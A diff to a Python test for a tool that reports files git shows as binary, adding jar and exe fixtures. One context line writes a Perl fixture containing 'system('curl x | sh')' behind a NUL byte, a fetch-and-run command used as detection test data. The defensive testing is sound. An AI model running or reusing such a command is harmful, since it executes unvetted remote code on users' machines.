@@ -530,6 +530,8 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
     repo = tmp_path / "repo"
     (repo / "bin").mkdir(parents=True)
     (repo / "tools").mkdir()
+    (repo / "gradle" / "wrapper").mkdir(parents=True)
+    (repo / "dist").mkdir()
     git(repo, "init", "--quiet", "--initial-branch=main")
     files = {
         "setup.ps1": "Write-Host hi\r\n".encode("utf-16"),
@@ -538,6 +540,9 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
         "logo.png": b"\x89PNG\0\0\0",
         "tools/run.pl": b"print 1;\n",
         "art.png": b"\x89PNG\0\0\0",
+        # A twelfth review: binary programs by their nature, no text with a NUL byte.
+        "gradle/wrapper/gradle-wrapper.jar": b"PK\x03\x04\0\0",
+        "dist/setup.exe": b"MZ\x90\0\x03\0",
     }
     for path, data in files.items():
         (repo / path).write_bytes(data)
@@ -552,6 +557,8 @@ def test_text_that_git_diffs_as_binary_is_told(tmp_path: Path) -> None:
     (repo / "tools/run.pl").write_bytes(b"print 1;\n# \0\nsystem('curl x | sh');\n")
     lfs = b"version https://git-lfs.github.com/spec/v1\noid sha256:0a1b\nsize 7\n"
     (repo / "art.png").write_bytes(lfs)  # moved to git-lfs: no text to show
+    (repo / "gradle/wrapper/gradle-wrapper.jar").write_bytes(b"PK\x03\x04\0\1")
+    (repo / "dist/setup.exe").write_bytes(b"MZ\x90\0\x03\1")
     git(repo, "commit", "--quiet", "-am", "Change")
     found = findings_of(manifest_of("--repo", repo, "HEAD"), "text/binary-text")
     assert [(row[2], row[4].split(",")[0]) for row in found] == [
